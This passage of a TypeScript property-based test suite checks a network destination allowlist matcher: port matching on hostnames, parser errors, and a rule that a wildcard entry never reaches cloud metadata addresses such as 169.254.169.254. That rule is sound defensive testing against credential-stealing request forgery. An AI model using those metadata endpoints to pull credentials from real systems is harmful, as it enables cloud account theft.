    fc.assert(
      fc.property(
        label,
        fc.integer({ min: 1, max: 65535 }),
        fc.integer({ min: 1, max: 65535 }),
        (name, entryPort, port) => {
          const host = `${name}.test`;
          const withPort = createMatcher([parseDestination(`${host}:${entryPort}`)]);
          assert.equal(withPort.matchName(host, port) !== undefined, port === entryPort);
          assert.ok(withPort.matchName(host, null));
          assert.ok(createMatcher([parseDestination(host)]).matchName(host, port));
        },
      ),
    );
  });

  it('metadata addresses: only an address entry reaches them, never "*"', () => {
    const any = createMatcher([parseDestination('*')]);
    for (const address of ['169.254.169.254', '169.254.170.2', 'fd00:ec2::254', '::ffff:169.254.169.254']) {
      assert.equal(any.matchAddress(parseIp(address) as IpAddress, 80), undefined, address);
    }
    assert.ok(
      createMatcher([parseDestination('169.254.0.0/16')]).matchAddress(
        parseIp('169.254.169.254') as IpAddress,
        80,
      ),
    );
    fc.assert(
      fc.property(ipv4, (n) => {
        const ip = parseIp(v4text(n)) as IpAddress;
        const metadata = ['169.254.169.254', '169.254.170.2', '169.254.170.23'].includes(v4text(n));
        assert.equal(any.matchAddress(ip, 80) !== undefined, !metadata);
      }),
    );
  });

  it('parseDestination never fails other than with a TypeError that says why', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 40 }), (text) => {
        try {
          parseDestination(text);
        } catch (error) {
          assert.ok(error instanceof TypeError, String(error));
          assert.ok((error as Error).message.length > 5);
        }
      }),
      { numRuns: 3000 },
    );
  });
});
